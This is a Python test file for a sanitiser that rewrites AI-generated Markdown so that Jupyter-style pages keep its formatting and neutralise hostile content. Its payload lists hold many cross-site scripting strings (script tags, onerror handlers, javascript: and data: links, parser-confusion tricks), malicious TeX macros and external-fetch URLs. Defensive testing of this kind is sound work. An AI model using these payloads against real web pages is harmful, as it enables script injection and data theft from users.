"""A model's Markdown on a page: ordinary answers keep their look, hostile ones do nothing."""

from __future__ import annotations

import html.parser
import re
import warnings

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from llm_magics.safe.markdown import code_span, escape, fenced, fences, link, prose, rebuild

COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
JOINER = "\u2060"

# ---------------------------------------------------------------- the look of ordinary answers

KEPT = {
    "paragraphs": "One line\nand its second.\n\nAnother paragraph.",
    "headings": "# One\n\n## Two `code`\n\n###### Six",
    "emphasis": "*em* _em_ **strong** __strong__ ~~gone~~ ***both*** in**side**word *a **b** c* *a*_b_ *_b_*",
    "snake_case": "snake_case and __init__.py's file_name_2".replace("__init__", "a_b"),
    "hard breaks": "one  \ntwo",
    "tight list": "- one\n- two\n  - nested\n    1. deep\n- three",
    "loose list": "- one\n\n- two\n\n  second paragraph",
    "numbers": "3. three\n4. four",
    "numbers with brackets": "1) one\n2) two",
    "code in a tight list": "1. Run\n   ```bash\n   ls -l\n\n   cd x\n   ```\n2. Look",
    "code in a loose list": "- Run\n\n  ```bash\n  ls -l\n  ```\n\n- Look",
    "two lists": "- a\n\n* b\n\n+ c",
    "tasks": "- [ ] open\n- [x] done",
    "table": "| a | b | c | d |\n| --- | :--- | ---: | :---: |\n| 1 | 2 | 3 | `x` |",
    "breaks in a table": "| a |\n| --- |\n| one<br>two |",
    "bar in a table's code": "| a |\n| --- |\n| `x\\|y` |",
    "quote": "> one\n> two\n>\n> - three\n>\n> > four",
    "hard break in a quote": "> one  \n> two",
    "code": "```python\nprint('<b>')\n\n    indented\n```",
    "code with ticks in it": "````markdown\n```python\nx\n```\n````",
    "rule": "one\n\n___\n\ntwo",
    "code span": "Use `print(x)` and `<div>` and `a_b*c*` here.",
    "link": "[text](https://a.example/x?y=1&z=2#f) (a.example)",
    "link that names its host": "[a.example](https://a.example/x)",
    "mail": "[a@b.example](mailto:a@b.example)",
    "inline formula": "The area is $\\pi r^2$, and $e^{i\\pi} = -1$.",
    "displayed formula": "So\n\n$$\n\\begin{aligned}\na &= b \\\\\n&= c\n\\end{aligned}\n$$\n\nfollows.",
    "one price": "It costs $5.".replace("$", "&#36;"),
    "CJK": "**中文**和日本語、한국어。",
    "RTL": "**שלום** عليكم \u200f123",
    "emoji": "👩‍👩‍👧‍👦 and 🏳️‍🌈 *yes* ✅",
    "picture in the text": "![chart](data:image/png;base64,iVBORw0KGgo=)",
    "quotes and dashes": '"He said" – it\'s 100% (really) & more'.replace("&", "&amp;"),
}


@pytest.mark.parametrize("markdown", KEPT.values(), ids=KEPT)
def test_what_is_safe_already_stays_as_it_is(markdown: str) -> None:
    assert rebuild(markdown) == markdown


WRITTEN = {
    "setext headings": ("One\n===\n\nTwo\n---", "# One\n\n## Two"),
    "a heading of many lines": ("a\nb\n===", "# a b"),
    "a closing mark": ("# C# #\n\n## a \\#", "# C#\n\n## a \\#"),
    "indented code": ("a\n\n    <b>\n", "a\n\n```\n<b>\n```"),
    "tildes": ("~~~py\nx\n~~~", "```py\nx\n```"),
    "a fence never closed": ("```py\nx", "```py\nx\n```"),
    "a class list as the language": ("```{.python .x}\nx\n```", "```python\nx\n```"),
    "a backslash break": ("one\\\ntwo", "one  \ntwo"),
    "a break tag": ("one<br>two<br/>three", "one  \ntwo  \nthree"),
    "stars as a rule": ("one\n***\ntwo", "one\n\n___\n\ntwo"),
    "links": ("[a](<https://x.example/a b> 'title')", "[a](https://x.example/a%20b) (x.example)"),
    "brackets in a link": (
        "[w](https://x.example/a_(b))",
        "[w](https://x.example/a_%28b%29) (x.example)",
    ),
    "reference links": (
        "[a][r] and [r]\n\n[r]: https://x.example 't'",
        "[a](https://x.example) (x.example) and [r](https://x.example) (x.example)",
    ),
    "autolinks": ("<https://x.example/a>", "[https://x.example/a](https://x.example/a)"),
    "bare URLs": (
        "See https://x.example/a_b_(c), or www.y.example.",
        "See [https://x.example/a_b&#95;(c)](https://x.example/a_b_%28c%29), or [www.y.example](http://www.y.example).",
    ),
    "bare URLs with underscores": (
        "See https://x.example/__main__.html#a.__b__, **https://y.example/_c_** and _http://z.example/d_.",
        "See [https://x.example/&#95;&#95;main&#95;&#95;.html#a.&#95;&#95;b&#95;&#95;]"
        "(https://x.example/__main__.html#a.__b__), "
        "**[https://y.example/&#95;c](https://y.example/_c)&#95;** and _[http://z.example/d](http://z.example/d)_.",
    ),
    "a badge": (
        "[![b](https://i.example/b.svg)](https://x.example)",
        "[(picture not loaded: b, from `i.example`)](https://x.example) (x.example)",
    ),
    "a remote picture": (
        "![cat](https://evil.example/c.png?d=secret)",
        "(picture not loaded: cat, from `evil.example`)",
    ),
    "a relative link": ("[x](/lab/tree)", "x (`/lab/tree`)"),
    "TeX brackets": (r"so \(x < y\) and \[z\]", r"so $x \lt y$ and $$z$$"),
    "TeX brackets on many lines": (
        "Then\n\\[\nx\n= y\n\n+ z\n\\],\nand",
        "Then\n\n$$\nx\n= y\n+ z,\n$$\n\nand",
    ),
    "a formula in a list": ("1. so\n   $$x$$\n2. and", "1. so\n   $$\n   x\n   $$\n2. and"),
    "a formula on dollar lines": ("Then $$x = 1$$ holds", "Then $$x = 1$$ holds"),
    "an environment without dollars": (
        "So\n\\begin{align*}\na &= b \\\\\n&= c\n\\end{align*}.\nThen",
        "So\n\n$$\n\\begin{align*}\na &= b \\\\\n&= c.\n\\end{align*}\n$$\n\nThen",
    ),
    "an environment on one line": (
        "- \\begin{pmatrix} 1 & 2 \\end{pmatrix}",
        "- $$\n  \\begin{pmatrix} 1 & 2 \\end{pmatrix}\n  $$",
    ),
    "a displayed formula in a quote": ("> so\n> $$\n> x\n> = y\n> $$", "> so\n>\n> $$x = y$$"),
    "dollars in formulas": ("$\\$5 + \\$6 = x\\$$", "$\\$5 + \\$6 = x\\${}$"),
    "dollars in a displayed formula": ("$$\\text{Total: \\$5}$$", "$$\n\\text{Total: \\$5}\n$$"),
    "a price beside code": ("from $2k/month; `$HOME`", "from &#36;2k/month; `$HOME`"),
    "bars in a table's formulas": (
        "| $P(A|B)$ | \\(|v|\\) | c |\n|---|---|---|\n| $|x|$ | $\\{x | x_1 \\in X\\}$ | d |",
        "| $P(A\\vert B)$ | $\\vert v\\vert$ | c |\n| --- | --- | --- |\n"
        "| $\\vert x\\vert$ | $\\{x \\vert x_1 \\in X\\}$ | d |",
    ),
    "bars beside a table's prices": (
        "|a|b|\n|-|-|\n|$5|10$|\n| $5 | 10$ |\n|$x|y$|\n",
        "| a | b |\n| --- | --- |\n| &#36;5 | 10&#36; |\n| &#36;5 | 10&#36; |\n| &#36;x | y&#36; |",
    ),
    "a formula first, a digit last": ("$x$ is 5", "$x$ is 5"),
    "a row's extra space": ("$$a \\\\[2pt] b$$", "$$\na \\\\ b\n$$"),
    "a tick in code": ("`` a`b ``", f"`a`{JOINER}&#96;{JOINER}`b`"),
    "HTML": ("H<sub>2</sub>O &copy; &lt;i&gt;", "H&lt;sub&gt;2&lt;/sub&gt;O © &lt;i&gt;"),
    "Windows line ends": ("a\r\n\r\n- b\r\n- c\r\n", "a\n\n- b\n- c"),
    "footnotes": ("a[^1]\n\n[^1]: b", "a&#91;^1&#93;\n\n&#91;^1&#93;: b"),
    "a number first in a line": ("a\n2. b\n#c\n1986\\. A year", "a\n2\\. b\n\\#c\n1986\\. A year"),
    "drawn fences": ("```mermaid\ngraph TD\n```", "```\ngraph TD\n```"),
}


@pytest.mark.parametrize(("markdown", "written"), WRITTEN.values(), ids=WRITTEN)
def test_other_spellings_are_written_in_the_plain_one(markdown: str, written: str) -> None:
    assert rebuild(markdown) == written


PRICES = [
    "It costs $5 or $6.",
    "Between $5 and $10, or US$5 to US$6.",
    "A $20 bill for A, and 30$ for B",
    "$1,000 a month ($12,000 a year)",
    "from $5/month to $9/month",
]


@pytest.mark.parametrize("prose", PRICES)
def test_prices_are_no_formulas_neither_for_the_parser_nor_for_the_page(prose: str) -> None:
    out = rebuild(prose)
    assert "$" not in out  # what a page's typesetter would look for in the source
    # In the page it looks for two dollars in a row of text; between any two of ours there is an element.
    assert all("<span>" in between for between in COMMONMARK.render(out).split("$")[1:-1])
    assert seen(out) == seen_text(prose)
    assert "*" not in nbconvert(out)


def test_text_that_is_no_formula_does_not_become_one_on_the_page() -> None:
    page = COMMONMARK.render(rebuild(r"a \\(x\\) b \\[y\\] and \\\\server, `code`, \\begin{x}"))
    assert not re.search(r"\\[(\[\\]|\\begin", re.sub("<code>.*?</code>", "", page))


@pytest.mark.parametrize(
    "tex",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\HREF{javascript:alert(1)}{x}",
        r"\url{x}",
        r"\require{html}",
        r"\class{jp-x}{x}",
        r"\cssId{x}{y}",
        r"\style{position:fixed}{x}",
        r"\unicode{x202e}",
        r"\def\x{\x\x}\x",
        r"\newcommand{\x}{\x\x}",
        r"\let\x\y",
        r"\ref{x}",
        r"\begin{html}x\end{html}",
        r"\includegraphics{x}",
        r"\htmlClass{a}{b}",
        r"\htmlData{commandlinker-command=x}{y}",
        r"\htmlStyle{position:fixed}{x}",
        r"\htmlId{x}{y}",
        r"\data{a=b}{x}",
        r"\setOptions{macros={x:y}}",
        r"\mathtoolsset{x}",
        r"\Newextarrow{\x}{1,1}{8672}",
        r"\DeclarePairedDelimiter{\x}{a}{b}",
        r"\DeclareMathOperator{\x}{\x\x}",
        r"\definecolor{red}{rgb}{0,0,0}",
        r"\newtagform{x}{a}{b}",
        r"\gdef\x{y}",
        r"\global\x",
        r"\bbox[url(//e.example)]{x}",
        r"\bbox[border:9999px,position:fixed]{x}",
        r"\enclose{circle}[href=\"javascript:alert(1)\"]{x}",
        r"\cancel[color=url(//e.example)]{x}",
        r"\color{url(//e.example)}{x}",
        r"\textcolor{expression(alert(1))}{x}",
        r"\colorbox{red;background:url(//e.example)}{x}",
        r"\fcolorbox{red}{url(//e.example)}{x}",
        r"\toggle{a}{b}\endtoggle",
        r"\mathtip{a}{b}",
        r"\texttip{a}{b}",
        r"\tooltip{a}{b}",
        r"\action{a}{b}",
        r"\mmlToken{mi}[href=\"javascript:alert(1)\"]{x}",
        r"\verb|x|",
        r"\char98",
        r"\rule{9999em}{9999em}",
        r"\Rule{9999em}{1em}{1em}",
        r"\raise9999em{x}",
        r"\lower99em{x}",
        r"\moveleft99em{x}",
        r"\hspace{9999em}x",
        r"\kern-999emx",
        r"\above 99em",
        r"\genfrac{}{}{99em}{}{a}{b}",
        r"\smash{x}",
        r"\begin{array}{*{99999}{c}}x\end{array}",
        r"\begin{array}{@{\href{x}{y}}c}x\end{array}",
        r"\begin{prooftree}x\end{prooftree}",
        r"\begin {html}x\end {html}",
        r"\begin{script}x\end{script}",
        r"\begin{document}x\end{document}",
        r"\dyad{\dyad{x}}",
        r"\zmat{9999}{9999}",
        r"\unknown{x}",
        r"\text{\href{javascript:alert(1)}{x}}",
        r"\\\href{javascript:alert(1)}{x}",
        "{" * 400 + "x" + "}" * 400,
    ],
    ids=lambda tex: tex[:40],
)
def test_tex_that_does_more_than_set_formulas_is_shown_as_code(tex: str) -> None:
    for source in (f"a ${tex}$ b", f"$$\n{tex}\n$$", rf"\[{tex}\]", rf"a \({tex}\) b"):
        tokens = [t for token in COMMONMARK.parse(rebuild(source)) for t in (token, *(token.children or []))]
        assert seen_text(tex) in seen_text("".join(t.content for t in tokens if t.type in ("code_inline", "fence")))


@pytest.mark.parametrize(
    "tex",
    [
        r"\frac{-b \pm \sqrt{b^2 - 4ac}}{2a}",
        r"\sum_{i=1}^{n} x_i \leq \int_0^\infty e^{-x^2}\,dx = \frac{\sqrt\pi}{2}",
        r"\hat{\beta} = (X^\top X)^{-1} X^\top y",
        r"\nabla \cdot \mathbf{E} = \rho / \varepsilon_0",
        r"\begin{pmatrix} a & b \\ c & d \end{pmatrix}",
        r"\begin{array}{l|cr} a & b & c \\ \hline d & e & f \end{array}",
        r"f(x) = \begin{cases} 1 & \text{if } x = 0, \\ 0 & \text{otherwise} \end{cases}",
        r"\left\{ x \in \mathbb{R} \,\middle|\, \lVert x \rVert_2 = 1 \right\}",
        r"\operatorname*{arg\,max}_{\theta} \log p_\theta(x \mid y)",
        r"\overset{!}{=} \underbrace{a + b}_{\text{na\"ive}} \xrightarrow[n \to \infty]{d} \mathcal{N}(0, 1)",
        r"\Pr[X \ge t] \le \exp\!\bigl(-\tfrac{t^2}{2}\bigr) \quad \forall\, t \neq 0 \tag{1}",
        r"\color{red}{x} + \textcolor{#0000ff}{y} + \color[HTML]{FF0000} z",
        r"\boxed{\ce{H2O}} \hspace{1cm} \cancel{x} \kern-1pt \ket{\psi} \bm{v} 50\%",
        r"\genfrac{(}{)}{0pt}{}{n}{k} \binom{n}{k} \sqrt[3]{x} \iint\!\!\int \Bigg\langle \cdots \Bigg\rangle",
        "{" * 40 + "x" + "}" * 40,
    ],
    ids=lambda tex: tex[:40],
)
def test_ordinary_formulas_stay_formulas(tex: str) -> None:
    assert rebuild(f"so \\({tex}\\) holds") == f"so ${tex}$ holds"
    assert rebuild(f"\\[\n{tex}\n\\]") == f"$$\n{tex}\n$$"


def test_what_a_formula_needs_not_is_left_out_of_it() -> None:
    assert rebuild(r"$a \label{eq:x} b$") == "$a b$"
    assert rebuild(r"$$a \\[9999em] b \\* c$$") == "$$\na \\\\ b \\\\ c\n$$"
    assert rebuild(r"\(\\\{ 50% \\\}\)") == r"$\\\{ 50\% \\\}$"


def test_more_formulas_than_a_page_can_set_are_code() -> None:
    assert rebuild("$a$ " * 3_000).count("`a`") == 1_000
    assert rebuild("$$\na\n$$\n\n" * 3_000).count("```\na\n```") == 1_000


@pytest.mark.parametrize("tex", ["a{b", "a}b", r"\begin{a}x", r"x\end{a}", "x\\\\", "a`b", "![x", "x" * 20_000])
def test_a_formula_that_others_would_not_see_the_end_of_is_shown_as_code(tex: str) -> None:
    assert "$" not in re.sub("`[^`]*`", "", rebuild(f"a \\({tex}\\) b"))


def test_what_stands_in_formulas_is_no_markdown_where_they_are_not_seen() -> None:
    out = rebuild(r"$[a](javascript:x)$ and \(<img src=x>\) and $f[x](y)$ and $[x]: http://e.example$")
    assert not re.search(r"\]\(|\]:|<", out)


def test_the_fences_of_a_text_are_found_wherever_they_stand() -> None:
    found = fences("a\n```py\nx\n```\n1. b\n   ~~~\n   y\n   ~~~\n> ```js\n> z\n\n````\n```\n````\n```sql\nopen")
    assert [(one.code, one.language) for one in found] == [
        ("x\n", "py"),
        ("y\n", ""),
        ("z\n", "js"),
        ("```\n", ""),
        ("open", "sql"),
    ]
    assert [(one.first, one.end) for one in found][:2] == [(1, 4), (5, 8)]


def test_links_name_the_host_they_lead_to() -> None:
    assert link("a nice page", "https://evil.example/x") == "[a nice page](https://evil.example/x) (evil.example)"
    assert rebuild("[good.example](https://evil.example)").endswith("(evil.example)")
    assert rebuild("[notevil.example](https://evil.example)").endswith("(evil.example)")
    assert rebuild("[evil.example.org](https://evil.example)").endswith("(evil.example)")
    assert rebuild("<https://good.example@evil.example>").count("evil.example") >= 2
    assert "xn--" in rebuild("[аpple.com](https://аpple.com)")
    once = rebuild("[a](https://x.example)")
    assert rebuild(once) == once


@pytest.mark.parametrize(
    "text",
    [
        r"[my bank $\phantom{evil.example}$](https://evil.example)",
        r"[my bank $\color{white}{evil.example}$](https://evil.example)",
        "[![evil.example](data:image/png;base64,iVBORw0KGgo=)](https://evil.example)",
        "[bank.example](https://evil.example)![ (evil.example)](data:image/png;base64,iVBORw0KGgo=)",
        "[evil.$x$example](https://evil.example)",
        "[evil.\nexample](https://evil.example)",
    ],
)
def test_a_host_that_nobody_can_see_in_a_links_text_is_named_behind_it(text: str) -> None:
    written = rebuild(text)
    assert "](https://evil.example) (evil.example)" in written
    assert rebuild(written) == written


def test_pictures_in_the_text_have_a_size_and_a_kind() -> None:
    assert rebuild("![x](data:image/svg+xml;base64,PHN2Zz4=)").startswith("(picture not loaded: x")
    assert rebuild("![x](data:text/html;base64,PHN2Zz4=)").startswith("(picture not loaded: x")
    assert rebuild(f"![x](data:image/png;base64,{'A' * 2_100_000})").startswith("(picture not loaded: x")


def test_formulas_that_would_keep_a_page_busy_for_minutes_are_code_from_there_on() -> None:
    letters = "y" * 9_000
    written = rebuild(f"$x$\n\n{f'${letters}$ ' * 10}\n\n$z$")
    assert written.startswith("$x$\n\n$yyy")
    assert written.count("y$") == 5
    assert written.count("y`") == 5
    assert written.endswith("`z`")


def test_rows_that_lack_most_cells_do_not_make_a_page_many_times_their_size() -> None:
    ragged = "a|" * 150 + "\n" + "-|" * 150 + "\n" + "x|\n" * 300
    whole = "a|" * 50 + "\n" + "-|" * 50 + "\n" + f"{'x|' * 50}\n" * 200
    assert len(rebuild(f"{ragged}\n" * 10)) < 10 * len(ragged) * 10
    assert len(COMMONMARK.parse(rebuild(whole))) == len(COMMONMARK.parse(whole)), "one that lacks none is as it was"


def test_an_address_that_a_text_repeats_does_not_make_a_page_many_times_its_size() -> None:
    for use in ("[a] ", "![a] ", "[![a]][a] "):
        for address in ("http://x.example/", "javascript:", "data:image/png;base64,"):
            text = f"[a]: {address}{'y' * 40_000}\n\n" + use * 10_000
            assert len(rebuild(text)) < 20 * len(text)
    assert rebuild("[a]: http://x.example\n\n" + "[a] " * 1_000).count("(http://x.example)") == 1_000


def test_links_are_read_by_every_parser_as_exactly_their_address() -> None:
    url = "https://x.example/?a=1&copy=2&amp=3&notit=4&x&lt"
    for out in (rebuild(f"[t]({url.replace('&', '&amp;')})"), link("t", url)):
        for page in (COMMONMARK.render(out), nbconvert(out)):
            assert [html.unescape(found) for found in re.findall('href="([^"]*)"', page)] == [url]


def test_what_would_turn_text_around_is_shown() -> None:
    assert rebuild("a\u202eb") == "a⟨U+202E⟩b"
    assert "⟨U+2066⟩" in rebuild("```\nif x\u2066: y\n```")


def test_plain_text_shows_exactly_itself() -> None:
    text = "# no *heading*\n\n- [no](http://list.example)\n<b> `x` $y$ _z_ a|b !"
    assert seen(prose(text)) == seen_text(text)
    assert [token.type for token in COMMONMARK.parse(prose(text)) if token.nesting > 0] == ["paragraph_open"] * 2
    assert "\n" not in escape("a\n\nb")


def test_code_cannot_end_itself() -> None:
    for code in ("`", "```", "a``b", "````\n</code>", " ", "x\n```\n<script>"):
        assert harm(COMMONMARK.render(fenced(code))) == []
        assert harm(COMMONMARK.render(code_span(code))) == []
    assert COMMONMARK.parse(fenced("a\n````\nb"))[0].content == "a\n````\nb\n"
    assert fenced("x", 'py" onload="x').startswith("```py\n")


# ---------------------------------------------------------------- hostile answers

IMG = "<img src=x onerror=alert(1)>"
JS = "[x](javascript:alert(1))"
LIVE = [
    IMG,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>*{background:url(//e.example)}</style>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//e.example'>",
    "<base href=//e.example/>",
    "<object data=//e.example></object>",
    "<embed src=//e.example>",
    "<video poster=//e.example src=//e.example><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div data-commandlinker-command='x' data-commandlinker-args='{}'>x</div>",
    "<b id=x name=y style='position:fixed' onclick=alert(1)>x</b>",
    "<math><mtext><mglyph><style><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img/src=x/onerror=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "</code></pre><img src=x onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;",
    "<\x00img src=x onerror=alert(1)>",
    "<im\x0cg src=x onerror=alert(1)>",
    "<img\u2028src=x onerror=alert(1)>",
    JS,
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//e.example)",
    "[x](http:/\\e.example)",
    "[x](https:javascript:alert(1))",
    "[x](command:workbench.action.x)",
    "[x](blob:http://x)",
    '[x](http://a.example/"onmouseover="alert(1))',
    '[x](http://a.example/ "t\\" onmouseover=alert(1)")',
    "[x](http://a.example/' 'onmouseover=alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> '\" onmouseover=\"alert(1)'",
    "[a\\](javascript:alert(1))](http://x.example)",
    "[\\[a\\](javascript:alert(1))](http://x.example)",
    "[`[a](javascript:alert(1))`](http://x.example)",
    "[a [b](javascript:alert(1)) c](http://x.example)",
    "[<http://x.example>](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<http://x.example/"onmouseover=alert(1)>',
    "![x](http://e.example/p.png)",
    "\\![x](http://e.example/p.png)",
    "&#33;[x](http://e.example/p.png)",
    "!&#91;x](http://e.example/p.png)",
    "![x][p]\n\n[p]: http://e.example/p.png",
    "![x](//e.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    '![x](data:image/png;base64,AAAA "t\' onerror=alert(1)")',
    "![`](data:image/png;base64,AA)`<img src=x onerror=alert(1)>`",
    f"```mermaid\n{IMG}\n```",
    f"```mermaid-x\n{IMG}\n```",
    f"``` math\n{IMG}\n```",
    f'```" onload="alert(1)\n{IMG}\n```',
    # Parsers that pair ticks, dollars, tildes or brackets each in their own way.
    f"$\\href{{a}}$`` ` {IMG} ``",
    f"`a`$\\href{{a}}$`` ` {IMG} ``",
    '[a](http://x.example/$1) " onmouseover="alert(1)" [b](http://x.example/$2)',
    f"`\\begin{{a}}` $\\end{{a}}$ `{IMG}`",
    f"`\\begin{{a}}` {JS} `\\end{{a}}`",
    f"`\\begin{{a}}` $[x](javascript:alert(1))$ `{IMG}`",
    f"- ```\n  $\n  ```\n  a $y$\n  ```\n  {IMG}\n  ```",
    f"> ```\n> $\n> ```\n>\n> a $y$ b\n>\n> ```\n> {IMG}\n> ```",
    f"\\[w\\]\n> ```\n> $$\n> ```\n\n```\n{IMG}\n```",
    f"`$$` x `$$` `` ` {IMG} ``",
    f"`$$`\n\n```\n$$\n```\n\na\n\n```\n{IMG}\n```",
    f"$a\\\\$ `$` `` ` {IMG} ``",
    f"\\$$x$ `$` `` ` {IMG} ``",
    f"`\\\\[` x `\\\\]` `` ` {IMG} ``",
    f"$a \\\\[ b$ `\\\\]` `` ` {IMG} ``",
    f"$a{{$ `{IMG}` $b}}$ `` ` {IMG} ``",
    '@@0@@ $" onmouseover="alert(1)$ [x](http://x.example/@@0@@)',
    f'[x](http://x.example/@\\@0@@) $" onmouseover="alert(1)$ {IMG}',
    f"www.x.example`{IMG}`",
    f"mhttp://x.example`{IMG}`",
    f"http://``{IMG}``",
    'xhttp://x.example/$" onmouseover="alert(1)$',
    f"`` `r``~~s~~`` `{IMG}``",
    f"~~`{IMG}`&nbsp;~~",
    '$b$`x`$http://x.example/$" onmouseover="alert(1)$[$',
    f"`$``[`$;\\({IMG}*\\``\\)",
    f"**`a`` {IMG}`**`` ` {IMG} ``",
    f"*a `b* {IMG}` c*",
    f"`a\\`{IMG}`b`",
    f"a\n: {IMG}",
    f"a&#10;&#10;    {IMG}",
    f"a&#10;```&#10;{IMG}",
    f"- a\n\n      {IMG}\n\n   {IMG}",
    f"-\t{IMG}\n\t{IMG}",
    f"1. a\n\n 2. {IMG}",
    f"```\n{IMG}\n ```\n{IMG}",
    f"~~~\n{IMG}\n```\n{IMG}\n~~~",
    f"````\n```\n{IMG}\n```",
    f"> ```\n{IMG}",
    f"a\\\n{IMG}",
    f"a\x0b{IMG}\x0c{IMG}\x85{IMG}",
    f"|a|\n|-|\n|`\\|`|{IMG}|`|",
    f"|a|b|\n|-|-|\n|`x|{IMG}`|",
    f"# a `{IMG}` #",
    f"[x]: http://x.example '{IMG}\n{IMG}'\n[x]",
    f"[^1]: {IMG}",
    f"*[{IMG}]: x\n\n{IMG}",
]
AROUND = {
    "alone": "{}",
    "in a list": "- a\n- {}\n- b",
    "in a quote": "> {}",
    "in a heading": "# {}",
    "in a table": "| a | b |\n|---|---|\n| {} | `x` |",
    "in emphasis": "**a {} b**",
    "in a link": "[{}](http://x.example)",
    "behind a formula": "$x$ {} $y$",
    "behind open code": "`a {} `` b",
    "in code": "`{}`",
    "in a fence": "```\n{}\n```",
    "behind an open fence in a list": "- ```\n{}",
    "between displayed formulas": "$$\nx\n$$\n{}\n$$\ny\n$$",
}


class Page(html.parser.HTMLParser):
    """Notes what a page would run or fetch."""

    ALLOWED = (
        *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em", "strong", "del", "s", "code", "pre", "a"),
        *("br", "hr", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "input", "img", "div", "span"),
    )
    HARMLESS = ("class", "style", "align", "start", "type", "disabled", "alt", "id", "aria-hidden")

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.ALLOWED:
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            if not self._is_harmless(name, re.sub(r"[\0- ]", "", value or "").lower()):
                self.harm.append(f"<{tag} {name}={value}>")

    def _is_harmless(self, name: str, value: str) -> bool:
        if name == "href":
            return value.startswith(("http://", "https://", "mailto:", "#"))
        return value.startswith("data:image/png;base64,") if name == "src" else name in self.HARMLESS

    def handle_comment(self, data: str) -> None:
        self.harm.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.harm.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.harm.append(f"<?{data}>")


def harm(page: str) -> list[str]:
    reader = Page()
    reader.feed(page)
    reader.close()
    return reader.harm


def nbconvert(markdown: str) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return str(markdown2html_mistune(markdown))


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND)
def test_nothing_hostile_is_live_for_two_parsers_that_let_html_through(around: str) -> None:
    for payload in LIVE:
        for text in (payload, payload.replace("\n", "\n  ")):
            written = rebuild(around.replace("{}", text))
            assert harm(COMMONMARK.render(written)) == [], (payload, written)
            assert harm(nbconvert(written)) == [], (payload, written)


def test_the_pages_themselves_are_harmful_without_us() -> None:
    assert sum(bool(harm(COMMONMARK.render(payload))) for payload in LIVE) > 50
    assert sum(bool(harm(nbconvert(payload))) for payload in LIVE) > 80


@pytest.mark.parametrize(
    "text",
    [
        # The end of what is struck out is looked for in code, too.
        "~~a `~~{}~~` b~~",
        "~~``&nbsp;~~`{}~~`",
        "~~a [`~~{}`](http://x.example) b~~",
        "~~a [x](y~~{}) b~~",
        # An address that may not be linked is shown as code: one definition makes many of them, and it is decoded.
        "[a][r]\n\n[r]: y$$\n\n```\n{}\n```",
        "[a](&#36;&#36;)\n\n```\n{}\n```",
        "![a](&#36;&#36;)\n\n```\n{}\n```",
    ],
)
def test_code_cannot_be_broken_open_from_outside(text: str) -> None:
    for payload in (IMG, JS, f"`{IMG}", f"$${IMG}"):
        written = rebuild(text.replace("{}", payload))
        assert harm(COMMONMARK.render(written)) == []
        assert harm(nbconvert(written)) == []
        struck = re.findall("~~.*~~", written)  # as a front end would find it that does not look for code
        assert not [one for one in struck if re.search("`[^`]*~~[^`]*`", one)]


@pytest.mark.parametrize("code", ["\\", "a\\", "\\\\", "\\ ", " \\"])
def test_a_backslash_in_code_escapes_nothing_behind_it(code: str) -> None:
    # JupyterLab's parser takes a tick behind a backslash for none when it looks for emphasis: a row of code spans would
    # be read inside out.
    written = rebuild(f"`{code}`*`*{IMG}`*")
    assert "\\`" not in written
    assert COMMONMARK.parseInline(written)[0].children[0].content.strip() == code.strip()
    assert "\\`" not in code_span(code)
    assert COMMONMARK.parseInline(code_span(code))[0].children[0].content == code


def test_html_in_the_source_is_a_break_or_nothing_and_no_more() -> None:
    for payload in LIVE:
        for token in COMMONMARK.parse(rebuild(f"| a |\n|---|\n| {payload} <br> |\n\n{payload}")):
            assert token.type != "html_block"
            assert {t.content for t in token.children or [] if t.type == "html_inline"} <= {"<br>", "<span>", "</span>"}


def test_a_front_end_that_sets_formulas_aside_first_finds_only_ours() -> None:
    # JupyterLab cuts formulas out of the source, in code too, and puts them back into the finished page as they were:
    # one that reaches over the end of a code block, or into an address, would let the rest of it out.
